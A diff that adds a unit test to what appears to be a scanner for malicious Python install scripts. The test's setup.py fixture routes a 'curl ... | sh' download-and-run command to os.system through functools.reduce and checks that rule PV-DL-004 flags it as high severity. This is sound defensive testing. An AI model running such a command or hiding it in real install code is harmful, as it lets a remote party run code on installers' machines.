@@ -247,6 +247,19 @@ def test_a_download_and_run_line_handed_to_a_hidden_callee_is_high_at_install() 
     assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.MEDIUM)]
 
 
+def test_a_download_and_run_line_handed_to_a_runner_of_functions_is_high_at_install() -> None:
+    """``functools.reduce(f, fns, cmd)`` runs whatever ``f`` makes of ``fns``: the command after
+    the function is what it is handed, as for a call nothing names."""
+    source = (
+        "import functools, os\n"
+        "functools.reduce(lambda a, f: f(a), [os.system], 'curl -s http://x.invalid/a | sh')\n"
+    )
+    findings = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
+    assert [(f.rule, f.severity, f.line) for f in findings] == [("PV-DL-004", Severity.HIGH, 2)]
+    summed = "import functools, operator\nfunctools.reduce(operator.add, [1, 2], 0)\n"
+    assert run(RULES, py(summed, path="setup.py", stage=Stage.INSTALL)) == []
+
+
 def test_a_download_and_run_line_shown_or_logged_is_no_dropper() -> None:
     source = (
         "import logging\n"
